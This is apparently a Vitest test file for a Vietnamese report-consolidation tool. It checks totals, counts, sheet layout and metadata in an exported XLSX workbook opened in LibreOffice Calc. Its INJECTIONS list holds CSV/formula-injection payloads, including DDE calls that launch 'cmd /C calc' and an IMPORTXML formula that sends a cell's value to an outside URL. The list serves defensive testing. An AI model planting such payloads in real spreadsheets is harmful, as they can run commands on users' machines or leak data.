import { beforeAll, describe, expect, it } from "vitest";

import { writeConsolidatedXlsx } from "../../../src/adapters/documents/write-consolidated-xlsx.ts";
import { openZip } from "../../../src/adapters/documents/zip.ts";
import { consolidate } from "../../../src/consolidation/consolidate.ts";
import type { Consolidation } from "../../../src/consolidation/consolidation.ts";
import { composeWorkbook } from "../../../src/consolidation/workbook/compose-workbook.ts";
import type { Sheet } from "../../../src/consolidation/workbook/workbook.ts";
import { campaignEngine, sampleReports } from "../../consolidation/sample-campaign.ts";
import { calculate, whyNoCalc } from "./calc.ts";

const AT = "2023-12-12T02:00:00Z";
const ZONE = "Asia/Ho_Chi_Minh";
/** What people may type that spreadsheets would take for a formula, a command, a number or markup. */
const INJECTIONS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com","bấm")',
  "+84912345678",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "=“Vì người nghèo”",
  "'=1+1",
  '"=1+1',
  ";=1+1",
  ",=1+1",
  "%0A=1+1",
  "00123",
  "1E5",
  "TRUE",
  "#REF!",
  "12/2023",
  "<b>&amp;</b>",
  "_x0041_",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
];

async function sample(
  change: (value: ReturnType<typeof sampleReports>) => void = () => {},
): Promise<{ of: Consolidation; sheets: readonly Sheet[] }> {
  const engine = await campaignEngine();
  const given = sampleReports(engine);
  change(given);
  const of = consolidate({ engine, ...given, counting: "submitted", at: AT, today: "2023-12-12" });
  const local = (instant: string) => Temporal.Instant.from(instant).toZonedDateTimeISO(ZONE).toPlainDateTime();
  const sheets = composeWorkbook(of, {
    title: engine.reporting.form.title,
    show: (field, value) => engine.show(field, value),
    local: (instant) => local(instant).toString({ smallestUnit: "minute" }),
    moment: (instant) => local(instant).toString(),
  });
  return { of, sheets };
}

/** The sheets with every result of a formula taken away, so that what is read is what was worked out. */
const withoutResults = (sheets: readonly Sheet[]): Sheet[] =>
  sheets.map((sheet) => ({
    ...sheet,
    *rows() {
      for (const row of sheet.rows())
        yield {
          ...row,
          cells: row.cells.map(({ value, look }) =>
            typeof value === "object" && value !== null
              ? { value: { ...value, result: 987_654 }, look }
              : { value, look },
          ),
        };
    },
  }));

const text = (figure: number | null) => (figure === null ? "" : String(figure));
const write = (sheets: readonly Sheet[]) => writeConsolidatedXlsx(sheets, new Date(AT));

const reason = whyNoCalc();

describe.skipIf(reason !== null)(`the workbook in LibreOffice Calc${reason ? ` (${reason})` : ""}`, () => {
  let of: Consolidation;
  let read: Record<string, string[][]>;
  beforeAll(async () => {
    const { of: made, sheets } = await sample();
    of = made;
    read = await calculate(await write(withoutResults(sheets)));
  }, 120_000);
  const totals = () => read["Tổng hợp"] ?? [];
  const rowOf = (label: string) => totals().filter((row) => row[1] === label);

  it("has its five sheets", () => {
    expect(Object.keys(read).toSorted()).toEqual(
      ["Chưa nộp", "Nguồn", "Nội dung", "Theo đơn vị", "Tổng hợp"].toSorted(),
    );
  });

  it("works out every total as we do, those of accepted reports too, and compares them", () => {
    expect(of.figures.length).toBeGreaterThan(20);
    for (const { field, total, givenBy, accepted } of of.figures) {
      const [row = []] = rowOf(field.label);
      const [shown, given, inner] = [row[3], row[4], row[10]];
      const expected = [text(total), text(givenBy.length), text(accepted.total)];
      expect([field.id, shown, given, inner, row[12]]).toEqual([field.id, ...expected, "khớp"]);
    }
  });

  it("counts units and choices as we do", () => {
    const table = totals().slice(totals().findIndex((row) => row[2] === "Phải nộp") + 1);
    for (const [at, { expected, by, accepted }] of of.kinds.entries())
      expect(table[at]?.slice(2, 9)).toEqual([expected, ...Object.values(by), accepted].map(String));
    for (const { field, choices } of of.choices)
      for (const { label, units } of choices)
        expect(rowOf(field.label).find((row) => row[2] === label)?.[3], `${field.id} ${label}`).toBe(
          String(units.length),
        );
  });

  it("gives every counted value with its unit, revision and receipt", () => {
    const values = of.rows.flatMap(({ standing, cells }) =>
      [...cells].flatMap(([id, cell]) =>
        cell.kind === "given" ? [[standing.code, standing.revision, standing.receipt, id, cell.value] as const] : [],
      ),
    );
    const rows = (read["Nguồn"] ?? []).slice(2);
    expect(rows.map((row) => [row[0], row[2], row[3], row[5]].map(String))).toEqual(
      values.map((one) => one.slice(0, 4).map(String)),
    );
    for (const [at, value] of values.entries())
      if (typeof value[4] === "number") expect(rows[at]?.[7]).toBe(String(value[4]));
    expect(of.rows.filter(({ standing }) => standing.handingIn === "returned").length).toBeGreaterThan(0);
    expect(rows.map((row) => row[4])).not.toContain("đang trả lại");
  });

  it("names the units that did not hand in on time", () => {
    const named = (read["Chưa nộp"] ?? []).slice(2).map((row) => [row[1], row[4]]);
    const words = {
      missing: "chưa nộp",
      returned: "đang trả lại",
      late: "trễ hạn",
      to_be_judged: "cần xem xét",
      on_time: "",
    };
    const expected = of.rows.flatMap(({ standing: { code, handingIn } }) =>
      handingIn === "on_time" ? [] : [[code, words[handingIn]]],
    );
    expect(named.map((one) => one.map(String)).toSorted()).toEqual(expected.toSorted());
  });
});

describe.skipIf(reason !== null)("what people type", () => {
  it("stays the text it is, wherever it stands", async () => {
    const typed = INJECTIONS.map((text) => ({ text, unit: "" }));
    const { sheets } = await sample(({ reports }) => {
      for (const [at, one] of typed.entries()) {
        const report = reports[at % reports.length];
        if (!report) throw new Error("no report");
        one.unit = report.unit;
        const given = { state: "given" as const, by: "1", at: AT, raw: one.text };
        const answers = {
          ...report.answers,
          han_che: { ...given, value: one.text },
          phuong_huong_kien_nghi: { ...given, value: "không" },
        };
        reports[at % reports.length] = {
          ...report,
          state: "submitted",
          answers,
          exceptions: [{ rule: "r", field: "han_che", reason: one.text }],
        };
      }
    });
    const bytes = await write(sheets);
    const read = await calculate(bytes);
    const plain = (text: string) => text.replace(/\r\n?/g, "\n");
    for (const { text, unit } of typed) {
      const sources = (read["Nguồn"] ?? []).filter((row) => String(row[0]) === unit && row[5] === "han_che");
      expect(sources.map((row) => [row[7], row[9]])).toEqual([[plain(text), plain(text)]]);
      const explained = (read["Nội dung"] ?? []).filter(
        (row) => String(row[3]) === unit && String(row[2]).startsWith("Giải trình"),
      );
      expect(explained.map((row) => row[8])).toEqual([plain(text)]);
    }
    const archive = openZip(bytes, "tong-hop.xlsx");
    const formulas = [1, 2, 3, 4, 5].flatMap((at) =>
      [...(archive.text(`xl/worksheets/sheet${at}.xml`) ?? "").matchAll(/<f>(.*?)<\/f>/g)].map(
        ([, formula]) => formula,
      ),
    );
    expect(formulas.length).toBeGreaterThan(50);
    expect(formulas.filter((formula) => !/^(IF|COUNT|COUNTA|COUNTIFS|SUMPRODUCT)\(/.test(formula ?? ""))).toEqual([]);
  }, 120_000);
});

describe("the file", () => {
  it("is A4 across, keeps headings in sight and on every page, and can be filtered", async () => {
    const archive = openZip(await write((await sample()).sheets), "tong-hop.xlsx");
    const part = (name: string) => archive.text(name) ?? "";
    for (const at of [1, 2, 3, 4, 5]) {
      expect(part(`xl/worksheets/sheet${at}.xml`)).toMatch(/<pageSetup [^>]*paperSize="9"[^>]*/);
      expect(part(`xl/worksheets/sheet${at}.xml`)).toMatch(/<pageSetup [^>]*orientation="landscape"/);
      expect(part(`xl/worksheets/sheet${at}.xml`)).toContain('state="frozen"');
    }
    for (const at of [2, 3, 4, 5])
      expect(part(`xl/worksheets/sheet${at}.xml`)).toMatch(/<autoFilter ref="A[24]:[A-Z]+\d+"\/>/);
    expect(part("xl/workbook.xml")).toContain("_xlnm.Print_Titles");
  });

  it("says the moment it was made and names nobody", async () => {
    const core = openZip(await write((await sample()).sheets), "tong-hop.xlsx").text("docProps/core.xml") ?? "";
    expect(core).toContain("2023-12-12T02:00:00Z");
    expect(core).not.toMatch(/ExcelJS/);
  });
});
